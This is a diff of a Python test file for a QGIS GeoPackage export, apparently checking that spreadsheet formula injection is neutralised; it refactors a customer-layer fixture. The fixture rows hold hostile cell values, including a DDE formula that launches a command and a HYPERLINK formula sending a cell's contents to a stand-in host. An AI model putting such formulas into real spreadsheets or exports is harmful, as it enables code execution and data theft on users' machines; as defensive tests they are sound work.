@@ -15,7 +15,7 @@ import re
 import zipfile
 
 import pytest
-from gpkg_layers import write_layer
+from gpkg_layers import text_points, write_layer
 
 CMD = "=cmd|' /C calc'!A0"
 LINK = '=HYPERLINK("http://x.example/?"&A1;"Apri")'
@@ -30,20 +30,7 @@ def hostile_customers(qgis_app, tmp_path):
         ("C2", "+39 333 2222222", "Via Emilia", LINK),
         (ODS, "+39 333 3333333", "Via Cavour", "Imola"),
     ]
-    return write_layer(
-        tmp_path / "customers.gpkg",
-        "customers",
-        "Point",
-        "EPSG:32632",
-        {"code": str, "mobile": str, "street": str, "town": str},
-        [
-            (
-                f"POINT({716000 + 10 * n} 4914000)",
-                dict(zip(("code", "mobile", "street", "town"), r)),
-            )
-            for n, r in enumerate(rows)
-        ],
-    )
+    return text_points(tmp_path / "customers.gpkg", ("code", "mobile", "street", "town"), rows)
 
 
 def run_customers(run_algorithm, layer, output):
